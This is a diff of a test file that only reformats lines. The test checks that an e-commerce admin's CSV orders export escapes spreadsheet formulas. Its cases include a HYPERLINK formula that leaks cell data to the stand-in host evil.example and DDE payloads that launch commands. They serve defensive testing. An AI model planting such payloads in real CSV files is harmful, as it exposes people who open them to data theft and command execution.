@@ -6,7 +6,11 @@ import { exportText, importFile } from "./transfer-helpers.js";
 // Texts a spreadsheet would run as a formula, each as the one CSV writer must write it: after an
 // apostrophe, shown as text. A plain number is no formula and stays a number.
 const CASES: [string, string, string][] = [
-  ["a formula", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
+  [
+    "a formula",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
+  ],
   ["a plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
   ["a minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
   ["an at sign", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
@@ -35,7 +39,11 @@ describe(`an order's comment in the admin's orders export, on ${testDialect}`, (
   beforeAll(async () => {
     t = await createTestApp();
     for (const [, text] of CASES) {
-      const created = await t.request({ method: "POST", url: "/api/ecommerce/orders", payload: { data: { type: "history", status: "new", receipt: "", comment: text } } });
+      const created = await t.request({
+        method: "POST",
+        url: "/api/ecommerce/orders",
+        payload: { data: { type: "history", status: "new", receipt: "", comment: text } },
+      });
       expect(created.status, JSON.stringify(created.body)).toBe(201);
       orders[created.body.data.id] = text;
     }
@@ -51,12 +59,15 @@ describe(`an order's comment in the admin's orders export, on ${testDialect}`, (
     const id = header!.indexOf("id");
     const comment = header!.indexOf("comment");
     const written = Object.fromEntries(rows.map((row) => [row[id]!, row[comment]]));
-    for (const [orderId, text] of Object.entries(orders)) expect(written[orderId], text).toBe(CASES.find(([, t]) => t === text)![2]);
+    for (const [orderId, text] of Object.entries(orders))
+      expect(written[orderId], text).toBe(CASES.find(([, t]) => t === text)![2]);
 
     const imported = await importFile(t, "ecommerce/orders", exported.text, "ecommerce-orders.csv");
     expect(imported.status, JSON.stringify(imported.body)).toBe(200);
     for (const [orderId, text] of Object.entries(orders)) {
-      expect((await t.request({ method: "GET", url: `/api/ecommerce/orders/${orderId}` })).body.data.comment).toBe(text);
+      expect((await t.request({ method: "GET", url: `/api/ecommerce/orders/${orderId}` })).body.data.comment).toBe(
+        text,
+      );
     }
   });
 });
